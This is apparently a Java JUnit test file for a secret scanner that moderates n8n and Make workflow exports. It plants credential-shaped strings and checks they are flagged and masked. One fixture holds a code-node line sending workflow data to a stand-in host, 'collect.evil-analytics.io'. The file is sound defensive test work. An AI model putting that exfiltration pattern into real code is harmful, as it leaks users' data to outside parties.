package app.flowmarket.moderation;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Stream;

import app.flowmarket.moderation.SecretScanner.Finding;
import org.junit.jupiter.api.Test;

class SecretScannerTests {

    private static final Path CORPUS = Path.of("..", "shared", "corpus", "n8n");

    // planted keys are built from parts, so that this file is not itself a leak for other scanners
    static final String AWS = "AKIA" + "Z4QX7PLM2NB6RT3K";
    static final String STRIPE = "sk_" + "live_" + "51Hq8xTzQm4PbN7c2Ls9Vw";
    static final String SLACK = "xoxb-" + "123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx";
    static final String GITHUB = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8";
    static final String OPENAI = "sk-" + "proj-" + "Xy7Qp2Lm9Nb4Vc6Zt1Rk8Sd3Fg5Hj0Aw";
    static final String RANDOM = "q7Zp2Lm9Nb4Vc6Xt1Rk8Sd3Fg5Hj0AwE";

    static byte[] n8n(String nodeType, String parameters) {
        return ("""
                {"name": "Planted", "nodes": [
                  {"id": "3f1c2e9a-7b1d-4c55-9a0e-2b8f4c6d1e77", "name": "Leaky node", "type": "%s", "typeVersion": 1,
                   "position": [0, 0], "parameters": %s,
                   "credentials": {"slackApi": {"id": "12", "name": "Slack account"}}}
                 ], "connections": {}}""").formatted(nodeType, parameters).getBytes(StandardCharsets.UTF_8);
    }

    static List<String> kinds(byte[] file) {
        return SecretScanner.scan(file).stream().map(Finding::kind).toList();
    }

    @Test
    void findsEachProvidersKeysWhereverTheyAreTyped() {
        assertThat(kinds(n8n("n8n-nodes-base.awsS3", "{\"accessKeyId\": \"" + AWS + "\"}"))).contains("aws-access-key");
        assertThat(kinds(n8n("n8n-nodes-base.httpRequest", "{\"url\": \"https://api.stripe.com/v1/charges\", \"headerParameters\": "
                + "{\"parameters\": [{\"name\": \"Authorization\", \"value\": \"Bearer " + STRIPE + "\"}]}}"))).contains("stripe-key");
        assertThat(kinds(n8n("n8n-nodes-base.slack", "{\"text\": \"hi\", \"options\": {\"token\": \"" + SLACK + "\"}}"))).contains("slack-token");
        assertThat(kinds(n8n("n8n-nodes-base.github", "{\"note\": \"push with " + GITHUB + " please\"}"))).contains("github-token");
        assertThat(kinds(n8n("@n8n/n8n-nodes-langchain.openAi", "{\"apiKey\": \"" + OPENAI + "\"}"))).contains("openai-key");
        assertThat(kinds(n8n("n8n-nodes-base.set", "{\"values\": {\"string\": [{\"name\": \"session\", \"value\": \"" + RANDOM + "\"}]}}")))
                .contains("high-entropy");
        assertThat(kinds(n8n("n8n-nodes-base.emailSend", "{\"password\": \"hunter2-but-longer\"}"))).contains("secret-field");
        assertThat(kinds(n8n("n8n-nodes-base.httpRequest", "{\"url\": \"https://hooks.slack.com/services/T0AAAAAAA/B0BBBBBBB/abcdefghijklmnopqrstuvwx\"}")))
                .contains("private-webhook");
        assertThat(kinds(n8n("n8n-nodes-base.postgres", "{\"connection\": \"postgres://admin:s3cretpw@db.internal:5432/app\"}")))
                .contains("password-in-url");
        // credentials written into the export instead of a reference
        byte[] inlineCredentials = """
                {"name": "x", "nodes": [{"name": "Mail", "type": "n8n-nodes-base.emailSend", "parameters": {},
                  "credentials": {"smtp": {"id": "1", "name": "SMTP", "password": "correct-horse-battery"}}}], "connections": {}}"""
                .getBytes(StandardCharsets.UTF_8);
        assertThat(kinds(inlineCredentials)).contains("secret-field");
    }

    @Test
    void namesTheNodeAndTheFieldAndNeverShowsTheWholeKey() {
        List<Finding> findings = SecretScanner.scan(n8n("n8n-nodes-base.awsS3", "{\"options\": {\"accessKeyId\": \"" + AWS + "\"}}"));
        assertThat(findings).hasSize(1);
        Finding finding = findings.getFirst();
        assertThat(finding.node()).isEqualTo("Leaky node");
        assertThat(finding.field()).isEqualTo("parameters.options.accessKeyId");
        assertThat(finding.evidence()).startsWith("AKIA").doesNotContain(AWS.substring(4, 18)).contains("(20)");
    }

    @Test
    void codeNodesCallingUnknownHostsAreFlaggedButWellKnownApisAreNot() {
        String code = "const r = await fetch('https://collect.evil-analytics.io/x?d=' + JSON.stringify($json));"
                + " await fetch('https://api.openai.com/v1/chat/completions');";
        List<Finding> findings = SecretScanner.scan(n8n("n8n-nodes-base.code", "{\"jsCode\": " + quote(code) + "}"));
        assertThat(findings).extracting(Finding::kind, Finding::evidence).containsExactly(org.assertj.core.groups.Tuple.tuple(
                "code-unknown-host", "collect.evil-analytics.io"));
    }

    @Test
    void findsSecretsInMakeBlueprintsToo() {
        byte[] make = ("""
                {"name": "Blueprint", "flow": [
                  {"id": 1, "module": "http:ActionSendData", "version": 3, "parameters": {},
                   "mapper": {"url": "https://api.example.com", "headers": [{"name": "X-Api-Key", "value": "%s"}]},
                   "metadata": {"designer": {"x": 0, "y": 0, "name": "Call the API"}}},
                  {"id": 2, "module": "builtin:BasicRouter", "version": 1, "mapper": null, "metadata": {"designer": {"x": 300, "y": 0}},
                   "routes": [{"flow": [{"id": 3, "module": "stripe:createCharge", "version": 1, "parameters": {"apiKey": "%s"},
                                         "mapper": {}, "metadata": {"designer": {"x": 600, "y": 0}}}]}]}
                ], "metadata": {"version": 1}}""").formatted(RANDOM, STRIPE).getBytes(StandardCharsets.UTF_8);
        List<Finding> findings = SecretScanner.scan(make);
        assertThat(findings).extracting(Finding::node).contains("Call the API", "stripe:createCharge #3");
        assertThat(findings).extracting(Finding::kind).contains("secret-field", "stripe-key");
    }

    @Test
    void expressionsPlaceholdersIdsAndCredentialReferencesAreNotSecrets() {
        assertThat(SecretScanner.scan(n8n("n8n-nodes-base.httpRequest", """
                {"url": "https://api.example.com/items", "authentication": "genericCredentialType",
                 "apiKey": "={{ $credentials.apiKey }}", "token": "YOUR_TOKEN_HERE", "password": "<your password>",
                 "headerParameters": {"parameters": [{"name": "Authorization", "value": "=Bearer {{ $json.token }}"}]},
                 "documentId": {"__rl": true, "value": "1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms", "mode": "list"},
                 "webhookId": "9f8e7d6c-5b4a-4321-9876-0fedcba98765", "text": "Hello {{ $json.name }}, your order shipped."}"""))).isEmpty();
    }

    /**
     * The shared corpus of real exports: every file is read, the flag rate and a sample of what was flagged (masked)
     * are written to {@code docs/moderation-corpus.md}, and the leaks known to be in it are found.
     */
    @Test
    void measuresTheFlagRateOnRealExports() throws IOException {
        assumeTrue(Files.isDirectory(CORPUS), "the shared n8n corpus is not beside the project");
        List<Path> files;
        try (Stream<Path> list = Files.list(CORPUS)) {
            files = list.filter(p -> p.toString().endsWith(".json")).sorted().toList();
        }
        Map<String, Integer> byKind = new TreeMap<>();
        List<String> sample = new ArrayList<>();
        int flagged = 0;
        for (Path file : files) {
            List<Finding> findings = SecretScanner.scan(Files.readAllBytes(file));
            if (!findings.isEmpty()) {
                flagged++;
                if (sample.size() < 12) {
                    sample.add(file.getFileName() + ": " + SecretScanner.describe(findings).getFirst());
                }
            }
            findings.forEach(f -> byKind.merge(f.kind(), 1, Integer::sum));
        }
        writeReport(files.size(), flagged, byKind, sample);

        assertThat(files).hasSizeGreaterThan(200);
        // the exports were scrubbed (YOUR_CREDENTIAL_HERE) before they were published: most must pass
        assertThat(flagged).isLessThan(files.size() / 5);
        assertThat(SecretScanner.scan(Files.readAllBytes(CORPUS.resolve("0066_Webhook_Cron_Automate_Scheduled.json"))))
                .extracting(Finding::kind).contains("private-webhook");
        assertThat(SecretScanner.scan(Files.readAllBytes(CORPUS.resolve("0946_Code_Webhook_Send_Webhook.json"))))
                .extracting(Finding::kind).contains("secret-field");
    }

    private static final Path REPORT = Path.of("docs", "moderation-corpus.md");

    /** Rewrites the corpus report; only the scanner's masked evidence goes in, never a whole value. */
    private static void writeReport(int files, int flagged, Map<String, Integer> byKind, List<String> sample) throws IOException {
        StringBuilder md = new StringBuilder();
        md.append("# Secret scanning on real workflow exports\n\n");
        md.append("Regenerated by `SecretScannerTests.measuresTheFlagRateOnRealExports` from the shared corpus of real n8n exports\n");
        md.append("(see the corpus README); do not edit by hand.\n\n");
        md.append("| Files | Flagged | Flag rate |\n|---:|---:|---:|\n");
        md.append("| %d | %d | %.1f %% |%n%n".formatted(files, flagged, 100.0 * flagged / files));
        md.append("## Findings by kind\n\n| Kind | Findings |\n|---|---:|\n");
        byKind.forEach((kind, count) -> md.append("| ").append(kind).append(" | ").append(count).append(" |\n"));
        md.append("\n## Sample of what was flagged (first finding per file, values masked)\n\n");
        sample.forEach(line -> md.append("- `").append(line.replace("`", "'")).append("`\n"));
        md.append("\nThe exports were scrubbed before they were published, so what is left are values typed into fields named\n");
        md.append("like secrets (headers, pinned data), webhook addresses, random-looking values and code nodes calling hosts\n");
        md.append("outside the list of well-known APIs: each is a flag for a person in the moderation queue, not a refusal.\n");
        if (Files.isDirectory(REPORT.getParent())) {
            Files.writeString(REPORT, md.toString(), StandardCharsets.UTF_8);
        }
    }

    private static String quote(String text) {
        return "\"" + text.replace("\\", "\\\\").replace("\"", "\\\"") + "\"";
    }
}
